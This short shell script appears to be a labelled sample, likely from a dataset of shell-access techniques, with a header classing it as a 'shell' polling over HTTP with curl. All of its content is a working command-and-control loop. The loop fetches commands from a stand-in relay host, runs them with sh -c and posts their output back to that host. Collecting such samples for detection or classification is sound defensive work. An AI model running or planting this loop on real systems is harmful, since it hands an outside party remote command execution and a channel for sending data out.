# class: shell; possible: low medium; style: polls over HTTP with curl
for i in 1 2 3 4 5 6 7 8 9 10; do
    cmd=$(curl -s http://relay.ops.test/task)
    if [ -n "$cmd" ]; then
        out=$(sh -c "$cmd" 2>&1)
        curl -s -X POST --data-binary "$out" http://relay.ops.test/result > /dev/null
    fi
    sleep 2
done
